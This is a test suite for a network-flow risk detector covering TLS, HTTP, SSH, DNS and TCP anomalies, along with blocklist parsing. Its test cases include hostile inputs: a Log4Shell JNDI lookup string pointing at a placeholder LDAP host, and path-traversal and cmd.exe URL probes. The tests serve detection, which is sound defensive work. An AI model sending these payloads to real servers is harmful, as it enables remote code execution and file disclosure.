/** Every risk that is asked of a flow: what shows it, and what nearly does. */
import { describe, expect, test } from 'vitest'
import { allDissectors } from '../dissectors/index.gen.ts'
import { RISKS } from '../lib/risks.gen.ts'
import { allRisks } from './index.gen.ts'
import { clientScore, type Risk, type RiskFlow, SCORES } from './risk.ts'
import { RiskLists } from './risk-lists.ts'
import { type Facts, flowOf, NOW_MS } from './testing.ts'

const DAY = 86_400_000
const SYN = 2
const RST = 4
const ACK = 16
/** A client hello as a browser sends it, and the same without what the risks look for. */
const hello = { ja3: 'x', versions: ['TLSv1.3', 'TLSv1.2'], alpn: ['h2', 'http/1.1'], serverName: 'www.example.org' }
const nameless = { ja3: 'x', versions: ['TLSv1.3', 'TLSv1.2'], alpn: ['h2', 'http/1.1'] }
const listed = new RiskLists()
listed.add(
  '72a589da586844d7f0818ce684948eea\n0DDB34F875632C7E1EC09D75827F82D2336DFEB6, bad\nbad.example # known\n203.0.113.0/24\n203.0.113.9',
)
const request = { method: 'GET', url: 'www.example.org/', userAgent: 'curl/8.4.0' }

interface Cases {
  readonly shows: readonly Facts[]
  readonly not: readonly Facts[]
}
const cases: Readonly<Record<string, Cases>> = {
  'Known Proto on Non Std Port': {
    shows: [
      { master: 'SSH', serverPort: 2222, usualPorts: [22] },
      { master: 'SMTPS', serverPort: 143, usualPorts: [465] },
    ],
    not: [
      { master: 'SSH', serverPort: 22, usualPorts: [22] },
      // Which end serves may have been guessed wrongly.
      { master: 'SSH', serverPort: 51_000, clientPort: 22, usualPorts: [22] },
      { master: 'SSH', serverPort: 2222, usualPorts: [22], isRecognised: false },
      { master: 'SMTPS', app: 'Google', serverPort: 25, usualPorts: [465] },
      { master: 'FTPS', serverPort: 21, usualPorts: [990] },
      { master: 'Steam', serverPort: 2222 },
      { master: 'ICMP', proto: 1, serverPort: 0, usualPorts: [7] },
    ],
  },
  'Self-signed Cert': {
    shows: [{ fields: { subject: 'CN=printer', issuer: 'CN=printer' } }],
    not: [
      { fields: { subject: 'CN=www.example.org', issuer: 'CN=A CA' } },
      { app: 'AnyDesk', fields: { subject: 'CN=AnyNet Client', issuer: 'CN=AnyNet Client' } },
      { fields: {} },
    ],
  },
  'Obsolete TLS (v1.1 or older)': {
    shows: [
      { fields: { versions: ['TLSv1.2'], version: 'TLSv1.0' } },
      { fields: { versions: ['TLSv1.1', 'TLSv1.0'] } },
      { fields: { versions: ['SSLv2'] } },
    ],
    not: [{ fields: { versions: ['TLSv1.2', 'TLSv1.1'] } }, { fields: { version: 'TLSv1.2' } }, { fields: {} }],
  },
  'Weak TLS Cipher': {
    shows: [
      { fields: { cipher: 'TLS_RSA_WITH_AES_128_GCM_SHA256' } },
      { fields: { cipher: 'TLS_ECDHE_RSA_WITH_RC4_128_SHA' } },
      { fields: { cipher: 'TLS_DHE_RSA_WITH_3DES_EDE_CBC_SHA' } },
      { fields: { cipher: 'TLS_ECDH_anon_WITH_AES_128_CBC_SHA' } },
    ],
    not: [
      { fields: { cipher: 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256' } },
      { fields: { cipher: 'TLS_AES_128_GCM_SHA256' } },
      { fields: {} },
    ],
  },
  'TLS Cert Expired': {
    shows: [
      { fields: { notBefore: NOW_MS - 9 * DAY, notAfter: NOW_MS - 1 } },
      { fields: { notBefore: NOW_MS + DAY, notAfter: NOW_MS + 9 * DAY } },
    ],
    not: [{ fields: { notBefore: NOW_MS - DAY, notAfter: NOW_MS + DAY } }, { fields: {} }],
  },
  'TLS Cert Mismatch': {
    shows: [
      { fields: { serverName: 'a.b.example.org', names: ['*.example.org', 'example.org'] } },
      { fields: { serverName: '192.168.1.70', names: ['speaker.local'] } },
    ],
    not: [
      { fields: { serverName: 'a.example.org', names: ['*.Example.org'] } },
      { fields: { serverName: 'example.org', names: ['example.com', 'example.org'] } },
      { fields: { serverName: 'example.org' } },
      // No more are kept: the right one may have been the next.
      { fields: { serverName: 'example.org', names: Array.from({ length: 16 }, (_, i) => `${i}.example.com`) } },
    ],
  },
  'HTTP Susp User-Agent': {
    shows: [
      { fields: { method: 'GET' } },
      { fields: { ...request, userAgent: 'test' } },
      { fields: { ...request, userAgent: 'vBKbaQgjyvRRbcgfvlsc' } },
      { fields: { ...request, userAgent: `\${jndi:ldap://198.51.100.1/a}` } },
    ],
    not: [
      { fields: request },
      { fields: { ...request, userAgent: 'Mozilla/5.0 (X11; Linux x86_64)' } },
      { fields: { ...request, userAgent: 'TeslaBrowserUpdater' } },
      // It says what it is: that is another risk.
      { fields: { ...request, userAgent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)' } },
      { fields: { method: 'CONNECT' } },
      // An answer alone: the request was not seen.
      { fields: { status: 200 } },
    ],
  },
  'HTTP/TLS/QUIC Numeric Hostname/SNI': {
    shows: [
      { master: 'HTTP', serverName: '198.51.100.7' },
      { master: 'TLS', serverName: '2001:db8::1' },
    ],
    not: [
      { master: 'HTTP', serverName: 'www.example.org' },
      { master: 'HTTP', serverName: '7.example.7' },
      { master: 'TLS', app: 'FortiClient', serverName: '198.51.100.7' },
      {},
    ],
  },
  'HTTP Susp URL': {
    shows: [
      { fields: { url: 'example.org/../../etc/hosts' } },
      { fields: { url: 'example.org/%2e%2e%2fboot.ini' } },
      { fields: { url: 'example.org/scripts/..%255c..%255cwinnt/system32/' } },
      { fields: { url: 'example.org/rpc/..%c0%af../winnt' } },
      { fields: { url: 'example.org/c/winnt/system32/cmd.exe?/c+dir' } },
    ],
    not: [
      { fields: { url: 'example.org/a..b/c?d=..' } },
      { fields: { url: 'example.org/etcetera/passwords.html' } },
      // What a query holds is for a program.
      { fields: { url: 'example.org/view?page=../../a' } },
      { fields: { url: 'example.org/view?page=a%00' } },
    ],
  },
  'HTTP Susp Header': {
    shows: [{ master: 'HTTP', serverPort: 80, fields: { host: '203.0.113.5' } }, { fields: { server: '¯\\_(ツ)_/¯' } }],
    not: [
      { master: 'HTTP', serverPort: 80, fields: { host: '198.51.100.7', server: 'nginx' } },
      { master: 'HTTP', serverPort: 80, fields: { host: 'www.example.org' } },
      // A proxy is asked for other hosts.
      { master: 'HTTP_Proxy', serverPort: 3128, fields: { host: '203.0.113.5' } },
    ],
  },
  'TLS (probably) Not Carrying HTTPS': {
    shows: [{ fields: { ja3: 'x', versions: ['TLSv1.2'], serverName: 'www.example.org' } }],
    not: [
      { fields: hello },
      // Clients of TLS 1.0 knew no ALPN.
      { fields: { ja3: 'x', versions: ['TLSv1.0'] } },
      { fields: { version: 'TLSv1.2' } },
      { fields: { ja3: 'x', versions: ['DTLSv1.2'], call: true } },
    ],
  },
  'Susp DGA Domain name': {
    shows: [
      { serverName: 'www.q4cyamnc6mtokjurvdclt.com' },
      { serverName: 'e6r5p57kbafwrxj3plz.co.uk' },
      { serverName: 'xqzkvjwpqhgfzx.com' },
    ],
    not: [
      { serverName: 'www.stackoverflow.com' },
      { serverName: 'krzysztofkowalski.pl' },
      { serverName: 'd3hb14vkzrxvla.cloudfront.net' },
      { serverName: 'r3---sn-4g5e6nsk.googlevideo.com' },
      { serverName: '10.2.0.192.in-addr.arpa' },
      {},
    ],
  },
  'SSH Obsolete Cli Vers/Cipher': {
    shows: [
      { fields: { client: 'SSH-2.0-OpenSSH_6.1' } },
      { fields: { client: 'SSH-1.5-1.2.26' } },
      { fields: { clientCiphers: ['aes128-ctr', 'arcfour128'] } },
    ],
    not: [
      { fields: { client: 'SSH-2.0-OpenSSH_9.6', clientCiphers: ['aes128-ctr'], serverCiphers: ['arcfour128'] } },
      { fields: { server: 'SSH-2.0-OpenSSH_6.1' } },
    ],
  },
  'SSH Obsolete Ser Vers/Cipher': {
    shows: [{ fields: { server: 'SSH-2.0-OpenSSH_4.3' } }, { fields: { serverCiphers: ['aes128-ctr', 'none'] } }],
    not: [{ fields: { server: 'SSH-1.99-OpenSSH_8.0' } }, { fields: { client: 'SSH-2.0-OpenSSH_6.1' } }],
  },
  'SMB Insecure Vers': {
    shows: [{ master: 'NetBIOS', app: 'SMBv1' }, { master: 'SMBv1' }],
    not: [{ master: 'SMBv23' }, { master: 'NetBIOS', app: 'SMBv1', proto: 17 }],
  },
  'TLS Susp ESNI Usage': {
    shows: [{ fields: { ...hello, esni: true } }],
    not: [{ fields: { ...nameless, esni: true } }, { fields: { ...hello, ech: true } }],
  },
  'Unsafe Protocol': {
    shows: [{ master: 'Telnet' }, { master: 'TLS', app: 'Tor' }],
    not: [{ master: 'SSH' }, { master: 'TLS', app: 'Google' }],
  },
  'Susp DNS Traffic': {
    shows: [{ fields: { queryName: `${'6f'.repeat(28)}.tunnel.example` } }, { serverName: `${'a.long.name.'.repeat(11)}example` }],
    not: [{ fields: { queryName: 'www.example.org' } }, { fields: { queryName: `${'0.'.repeat(32)}ip6.arpa` } }],
  },
  'Missing SNI TLS Extn': {
    shows: [{ fields: nameless }, { fields: { quicVersion: 'Q046' } }],
    not: [
      { fields: hello },
      { fields: { ...nameless, esni: true } },
      { fields: { ...nameless, versions: ['TLSv1.0'] } },
      { fields: { ...nameless, versions: ['DTLSv1.2'], call: true } },
      { fields: { quicVersion: 'v1' } },
    ],
  },
  'Risky ASN': { shows: [{ serverListed: '203.0.113.0/24' }], not: [{ serverListed: '203.0.113.9' }, {}] },
  'Risky Domain Name': {
    shows: [{ serverName: 'x.bad.example', lists: listed }, { serverName: 'abc.oast.fun' }],
    not: [{ serverName: 'notbad.example', lists: listed }, { serverName: 'bad.example.org', lists: listed }, {}],
  },
  'Malicious Fingerpint': {
    shows: [
      { fields: { ja3: '51c64c77e60f3980eea90869b68c58a8' } },
      { fields: { ja3: '72a589da586844d7f0818ce684948eea' }, lists: listed },
    ],
    not: [{ fields: { ja3: '72a589da586844d7f0818ce684948eea' } }, { fields: {} }],
  },
  'Malicious SSL Cert/SHA1 Fingerp.': {
    shows: [{ fields: { certificateSha1: '0D:DB:34:F8:75:63:2C:7E:1E:C0:9D:75:82:7F:82:D2:33:6D:FE:B6' }, lists: listed }],
    not: [{ fields: { certificateSha1: '1D:DB:34:F8:75:63:2C:7E:1E:C0:9D:75:82:7F:82:D2:33:6D:FE:B6' }, lists: listed }, { lists: listed }],
  },
  'Desktop/File Sharing': {
    shows: [{ master: 'RDP' }, { master: 'TLS', app: 'AnyDesk' }],
    not: [{ master: 'RDP', isRecognised: false }, { master: 'TLS' }, { master: 'DNS', app: 'AnyDesk' }],
  },
  'Uncommon TLS ALPN': {
    shows: [{ fields: { alpn: ['anydesk/6.2.0/linux'] } }],
    not: [{ fields: { alpn: ['h2', 'http/1.1', 'spdy/3.1', 'h2-fb'] } }, { fields: {} }],
  },
  'TLS Cert Validity Too Long': {
    shows: [{ fields: { notBefore: Date.UTC(2022, 4, 21), notAfter: Date.UTC(2024, 4, 20) } }],
    // Before September 2020 two years were usual.
    not: [
      { fields: { notBefore: Date.UTC(2018, 4, 21), notAfter: Date.UTC(2020, 4, 20) } },
      { fields: { notBefore: Date.UTC(2023, 4, 21), notAfter: Date.UTC(2024, 4, 20) } },
    ],
  },
  'TLS Fatal Alert': {
    shows: [{ fields: { alert: 'fatal handshake_failure' } }],
    not: [{ fields: { alert: 'warning close_notify' } }, { fields: {} }],
  },
  'Susp Entropy': {
    shows: [{ looksDense: true, isRecognised: false }],
    not: [
      { looksDense: true },
      { looksDense: true, looksRandom: true, isRecognised: false },
      { looksDense: true, isRecognised: false, isDecided: false },
      { isRecognised: false },
    ],
  },
  'TLS Cert About To Expire': {
    shows: [{ fields: { notAfter: NOW_MS + 29 * DAY } }],
    not: [{ fields: { notAfter: NOW_MS + 31 * DAY } }, { fields: { notAfter: NOW_MS - DAY } }, { fields: {} }],
  },
  'IDN Domain Name': { shows: [{ serverName: 'www.xn--80ak6aa92e.com' }], not: [{ serverName: 'www.axn--b.com' }, {}] },
  'Error Code': {
    shows: [{ fields: { status: 404 } }, { fields: { errorStatus: 2 } }, { fields: { responseCode: 'NXDOMAIN' } }],
    not: [{ fields: { status: 302 } }, { fields: { errorStatus: 0 } }, { fields: { responseCode: 'NOERROR' } }, { fields: {} }],
  },
  'Crawler/Bot': {
    shows: [
      { fields: { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' } },
      { fields: { url: 'www.example.org/robots.txt', userAgent: 'x/1.0' } },
    ],
    not: [
      { fields: { userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Bottles/51' } },
      { fields: { userAgent: 'Mozilla/5.00 (Nikto/2.1.6)' } },
      { fields: { url: 'www.example.org/help/robots.txt' } },
      { fields: {} },
    ],
  },
  'Anonymous Subscriber': { shows: [{ app: 'iCloudPrivateRelay' }], not: [{ app: 'Apple' }] },
  'Unidirectional Traffic': {
    shows: [{ packetsS2c: 0 }, { packetsC2s: 0 }],
    not: [{}, { packetsS2c: 0, isSettled: false }, { packetsS2c: 0, toMany: true }, { packetsS2c: 0, master: 'NetFlow' }],
  },
  'HTTP Obsolete Server': {
    shows: [
      { fields: { server: 'Apache/2.2.16 (Debian)' } },
      { fields: { server: 'nginx/1.10.3' } },
      { fields: { server: 'Microsoft-IIS/7.5' } },
    ],
    not: [
      { fields: { server: 'Apache/2.4.41 (Ubuntu)' } },
      { fields: { server: 'nginx/1.25.1' } },
      { fields: { server: 'nginx' } },
      { fields: {} },
    ],
  },
  'TCP Connection Issues': {
    shows: [
      { flagsC2s: SYN, flagsS2c: RST | ACK },
      { flagsC2s: 0, flagsS2c: 0, packetsS2c: 0 },
      { flagsC2s: 1, flagsS2c: 0, packetsS2c: 0 },
      { flagsC2s: 0x29, flagsS2c: 0, packetsS2c: 0 },
      { flagsC2s: SYN | RST | ACK, flagsS2c: 0, packetsS2c: 0 },
      { packetsC2s: 0, flagsC2s: 0, packetsS2c: 1, flagsS2c: RST | ACK },
    ],
    not: [
      {},
      { flagsC2s: SYN | ACK | RST, flagsS2c: SYN | ACK },
      { flagsC2s: SYN, flagsS2c: 0, packetsS2c: 0 },
      { flagsC2s: 0, flagsS2c: 0, proto: 17 },
      { flagsC2s: 0, packetsC2s: 0 },
      // Of a capture of one direction: data were sent.
      { flagsC2s: SYN | RST | ACK | 8, flagsS2c: 0, packetsS2c: 0 },
      // The end of a connection that was not seen.
      { packetsC2s: 1, flagsC2s: RST, packetsS2c: 0, flagsS2c: 0 },
    ],
  },
  'Fully Encrypted Flow': {
    shows: [{ looksRandom: true, isRecognised: false }],
    not: [{ looksRandom: true }, { isRecognised: false }, { looksRandom: true, isRecognised: false, isSettled: false }],
  },
  'ALPN/SNI Mismatch': {
    shows: [{ fields: nameless }, { fields: { ...nameless, alpn: ['h3-29'] } }],
    not: [{ fields: hello }, { fields: { ...nameless, alpn: ['http/1.1'] } }, { fields: { ...nameless, ech: true } }],
  },
  'Client Contacted A Malware Host': {
    shows: [{ category: 'Malware' }, { serverListed: '203.0.113.9' }],
    not: [{ category: 'Web' }, { serverListed: '203.0.113.0/24' }],
  },
  'Probing Attempt': {
    shows: [
      { fields: { ...request, userAgent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)' } },
      { fields: { ...request, userAgent: 'sqlmap/1.8#stable (https://sqlmap.org)' } },
    ],
    not: [{ fields: { ...request, userAgent: 'Mozilla/5.0 (X11; Linux x86_64)' } }, { fields: {} }],
  },
  'Obfuscated Traffic': {
    shows: [{ looksRandom: true, isRecognised: false, serverPort: 22 }],
    not: [
      { looksRandom: true, isRecognised: false, serverPort: 1234 },
      // What networks leave open for the web is the way out for all.
      { looksRandom: true, isRecognised: false, serverPort: 443 },
      { looksRandom: true, serverPort: 22 },
      { isRecognised: false, serverPort: 22 },
    ],
  },
}

const asked = allRisks.filter(({ check }) => check !== undefined)
test('no risk is left out here', () => {
  expect(Object.keys(cases)).toEqual(asked.map(({ name }) => name))
})

/** Of these a change is no news to recognition. */
const CHANGING = [
  ...['packetsC2s', 'packetsS2c', 'bytesC2s', 'bytesS2c', 'flagsC2s', 'flagsS2c'],
  ...['lastSeenMs', 'isSettled', 'isOver'],
] as const

/** The flow without all that the risk waits for. */
function without({ fields = [], names = [], given }: Risk, facts: Facts): Facts {
  const isNamed = (text: string | undefined) => text !== undefined && names.includes(text)
  return {
    ...facts,
    fields: Object.fromEntries(Object.entries(facts.fields ?? {}).filter(([field]) => !fields.includes(field))),
    ...(isNamed(facts.master) && { master: 'Unknown' }),
    ...(isNamed(facts.app) && { app: '' }),
    ...(given === 'serverName' && { serverName: '' }),
    ...(given === 'looksRandom' && { looksRandom: false }),
    ...(given === 'looksDense' && { looksDense: false }),
    ...(given === 'listedNetworks' && { serverListed: undefined }),
  }
}

describe.each(asked.map((r) => [r.name, r] as const))('%s', (name, risk) => {
  const { check, counts, fields, names, given } = risk
  test.each(cases[name]!.shows.map((facts, i) => [i, facts] as const))('shows in %i', (_, facts) => {
    expect(check!(flowOf(facts))).toMatch(/./)
  })
  test.each(cases[name]!.not.map((facts, i) => [i, facts] as const))('does not show in %i', (_, facts) => {
    expect(check!(flowOf(facts))).toBeUndefined()
  })
  test('is asked again when what it looks at may have changed', () => {
    const read = new Set<PropertyKey>()
    const get = (flow: RiskFlow, key: PropertyKey) => {
      read.add(key)
      return Reflect.get(flow, key)
    }
    const watched = (facts: Facts) => new Proxy(flowOf(facts), { get })
    for (const facts of [...cases[name]!.shows, ...cases[name]!.not]) check!(watched(facts))
    expect([name, CHANGING.some((key) => read.has(key))]).toEqual([name, counts === true])
  })
  test('is there only where what it waits for is', () => {
    if (fields === undefined && names === undefined && given === undefined) return
    for (const facts of cases[name]!.shows) expect(check!(flowOf(without(risk, facts)))).toBeUndefined()
  })
  test('a flow of which nothing is known has it not', () => {
    expect(check!(flowOf({ isRecognised: false, isDecided: false, isOver: false, isSettled: false }))).toBeUndefined()
  })
})

describe('the list', () => {
  test('is that of nDPI-based tools, in its order', () => {
    expect(allRisks.map(({ id }) => id)).toEqual(Array.from({ length: 56 }, (_, i) => i + 1))
    expect(allRisks.map(({ name }) => name)).toEqual(RISKS.map(({ name }) => name))
    expect(new Set(RISKS.map(({ name }) => name)).size).toBe(56)
  })
  test('scores are divided without rest, by whose doing it is', () => {
    expect(RISKS.find(({ name }) => name === 'SQL Injection')).toMatchObject({
      severity: 'Severe',
      score: 150,
      clientScore: 135,
      serverScore: 15,
    })
    expect(RISKS.find(({ name }) => name === 'Error Code')).toMatchObject({ severity: 'Low', score: 10, clientScore: 1, serverScore: 9 })
    expect(RISKS.find(({ name }) => name === 'TLS Cert Mismatch')).toMatchObject({ severity: 'High', clientScore: 50, serverScore: 50 })
    for (const r of allRisks) {
      expect([r.name, Number.isInteger(clientScore(r)) && clientScore(r) < SCORES[r.severity]]).toEqual([r.name, true])
      expect(r.about).toMatch(/^[A-Z].*\.$/)
    }
  })
  test('names dissectors that there are, or names that they give', () => {
    const known = new Set(allDissectors.flatMap((d) => [d.name, ...Object.keys(d.alsoNames ?? {})]))
    for (const { of } of allRisks) if (typeof of === 'object') for (const name of of) expect(known).toContain(name)
  })
})

describe('lists of the user', () => {
  test('are read as others publish them', () => {
    const lists = new RiskLists()
    const text = [
      '# comment',
      'ja3_md5,Firstseen,Lastseen,Listingreason',
      'e7d705a3286e19ea42f587b344ee6865,2017-07-14,2019-07-20,Tor',
      't13d1516h2_8daaf6152771_b186095e22b6',
      '2024-01-02 03:04:05,0ddb34f875632c7e1ec09d75827f82d2336dfeb6,Dridex C&C',
      '0.0.0.0 evil.example',
      '192.0.2.0/24 ; SBL1',
      '2001:db8:bad::/48',
      '"198.51.100.77"',
      '',
    ].join('\r\n')
    expect(lists.add(text)).toEqual([2])
    expect(lists.hasFingerprint('e7d705a3286e19ea42f587b344ee6865')).toBe(true)
    expect(lists.hasFingerprint('t13d1516h2_8daaf6152771_b186095e22b6')).toBe(true)
    expect(lists.hasCertificate('0D:DB:34:F8:75:63:2C:7E:1E:C0:9D:75:82:7F:82:D2:33:6D:FE:B6')).toBe(true)
    expect(lists.listedDomain('www.evil.example')).toBe('evil.example')
    const v4 = (...bytes: number[]) => [0, 0, 0xffff, bytes.reduce((n, b) => (n << 8) | b, 0)] as const
    expect(lists.listedNetwork(v4(192, 0, 2, 200))).toBe('192.0.2.0/24')
    expect(lists.listedNetwork(v4(192, 0, 3, 200))).toBeUndefined()
    expect(lists.listedNetwork(v4(198, 51, 100, 77))).toBe('198.51.100.77')
    expect(lists.listedNetwork([0x20010db8, 0x0bad0000, 0, 1])).toBe('2001:db8:bad::/48')
  })
})
